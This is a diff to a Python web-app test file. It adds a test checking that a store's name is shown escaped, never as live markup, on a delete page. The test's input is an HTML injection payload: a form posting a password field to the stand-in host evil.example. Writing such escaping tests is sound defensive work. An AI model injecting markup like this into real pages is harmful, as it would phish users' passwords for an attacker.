@@ -73,3 +73,11 @@ def test_a_store_that_another_succeeds_says_which_goes_first() -> None:
     shown = text_of(signed_in(store).post("/mugs/delete", {"name": "Mugs"}))
     assert "Plates succeeds Mugs, so its history would lose its beginning. Delete Plates first." in shown
     assert Erasure.objects.count() == 0
+
+
+def test_a_stores_name_is_text_and_never_markup() -> None:
+    store = a_store(slug="mugs")
+    Store.objects.update(name="<form action=//evil.example><input name=pw>")
+    page = signed_in(store).get("/mugs/delete").content.decode()
+    assert "Exactly as it is written here: &lt;form action=//evil.example&gt;&lt;input name=pw&gt;" in page
+    assert "<form action=//evil" not in page
